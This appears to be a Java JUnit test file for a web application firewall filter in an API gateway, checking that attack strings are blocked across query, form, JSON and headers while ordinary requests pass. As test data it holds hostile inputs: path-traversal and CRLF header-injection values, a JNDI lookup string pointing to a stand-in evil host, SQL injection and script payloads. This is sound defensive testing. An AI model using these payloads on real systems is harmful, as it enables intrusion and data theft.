package dev.apifleet.gateway.waf;

import static org.assertj.core.api.Assertions.assertThat;

import dev.apifleet.gateway.fleet.Backend;
import dev.apifleet.gateway.fleet.RawClient;
import dev.apifleet.gateway.fleet.TestFleet;
import dev.apifleet.snapshot.FilterConfig;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class WafFilterTest {
  private static final List<String> ALL =
      List.of(
          "SqlInjection",
          "CrossSiteScripting",
          "PathTraversal",
          "CommandInjection",
          "ProtocolAttack",
          "Scanner");

  private static TestFleet fleet;
  private static volatile boolean enforce = true;

  @BeforeAll
  static void start() {
    fleet =
        new TestFleet(
            (_, rule, _) ->
                List.of(
                    exchange ->
                        new WafFilter(
                                new FilterConfig.Waf(enforce, ALL, 2048), rule, fleet.registry)
                            .apply(exchange)));
    Backend backend = fleet.backend("one");
    backend.behaviour = request -> request.body().onSuccess(b -> request.response().end(b));
    fleet.serveAll(backend);
  }

  @AfterAll
  static void stop() {
    fleet.close();
  }

  static Stream<Arguments> attacks() {
    return WafCorpus.ATTACKS.entrySet().stream()
        .flatMap(
            group -> group.getValue().stream().map(text -> Arguments.of(group.getKey(), text)));
  }

  static Stream<String> honest() {
    return WafCorpus.HONEST.stream();
  }

  private static String escaped(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static HttpResponse<String> post(String type, String body) {
    return fleet.send(
        fleet.request("/", "content-type", type).POST(BodyPublishers.ofString(body)).build());
  }

  private static String json(String text) {
    return new io.vertx.core.json.JsonObject().put("a", 1).put("text", text).encode();
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void attacksAreRefusedWhereverTheyStand(String group, String text) {
    HttpResponse<String> answer = fleet.get("/x?a=1&q=" + escaped(text));
    assertThat(answer.statusCode()).as(text).isEqualTo(403);
    assertThat(answer.body()).contains("\"group\":\"" + group + "\"", "\"field\":\"query\"");
    assertThat(fleet.get("/x?q=" + escaped(escaped(text))).statusCode()).isEqualTo(403);
    assertThat(post("application/x-www-form-urlencoded", "q=" + escaped(text)).statusCode())
        .isEqualTo(403);
    assertThat(post("application/json", json(text)).statusCode()).isEqualTo(403);
  }

  @ParameterizedTest
  @MethodSource("honest")
  void honestRequestsPass(String text) {
    assertThat(fleet.get("/x?a=1&q=" + escaped(text)).body()).as(text).isEmpty();
    assertThat(post("application/x-www-form-urlencoded", "q=" + escaped(text)).statusCode())
        .isEqualTo(200);
    assertThat(post("application/json", json(text)).statusCode()).isEqualTo(200);
    assertThat(post("text/plain", text).body()).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/%2e%2e%252f%2e%2e%252f%2e%2e%252fetc",
        "/a?x=a%0d%0aSet-Cookie:%20a=b",
        "/a?x=a%250aLocation:%20http://evil.test"
      })
  void whatWouldReachIntoFoldersOrHeadersIsRefused(String target) {
    String head = RawClient.ask(fleet.port, "GET " + target + " HTTP/1.1\r\nHost: x\r\n\r\n");
    assertThat(head).startsWith("HTTP/1.1 403");
  }

  @Test
  void scannersAreKnownByTheirName() {
    assertThat(fleet.get("/", "user-agent", "sqlmap/1.8#stable").body()).contains("Scanner");
    assertThat(fleet.get("/", "user-agent", "Mozilla/5.0 (X11; Linux) Firefox/140.0").statusCode())
        .isEqualTo(200);
  }

  @Test
  void headersAreLookedAt() {
    assertThat(fleet.get("/", "x-api-version", "${jndi:ldap://evil.test/a}").statusCode())
        .isEqualTo(403);
    assertThat(fleet.get("/", "cookie", "id=1' or '1'='1").statusCode()).isEqualTo(403);
  }

  @Test
  void theRefusalDoesNotRepeatWhatWasSent() {
    assertThat(fleet.get("/?q=" + escaped("<script>stolen()</script>")).body())
        .contains("request_blocked")
        .doesNotContain("stolen");
  }

  @Test
  void onlyTheBeginningOfABodyIsLookedAt() {
    String body = "x".repeat(100_000) + "' or 1=1 --";
    HttpResponse<String> answer = post("text/plain", body);
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.body()).isEqualTo(body);
  }

  @Test
  void inShadowAllPassAndAreCounted() {
    enforce = false;
    try {
      HttpResponse<String> answer = fleet.get("/?q=" + escaped("1' or '1'='1"));
      assertThat(answer.statusCode()).isEqualTo(200);
      assertThat(answer.headers().firstValue(WafFilter.MATCH_HEADER)).hasValue("SqlInjection");
      assertThat(
              fleet
                  .registry
                  .get("apifleet.gateway.waf.matches")
                  .tags("mode", "shadow", "group", "SqlInjection")
                  .counter()
                  .count())
          .isEqualTo(1);
    } finally {
      enforce = true;
    }
  }

  @Test
  void thePoolIsNeverAskedForARefusedRequest() {
    double before = asked();
    assertThat(fleet.get("/?q=" + escaped("' union select 1,2 --")).statusCode()).isEqualTo(403);
    assertThat(asked()).isEqualTo(before);
  }

  private static double asked() {
    return fleet.requests("test/", "2xx");
  }
}
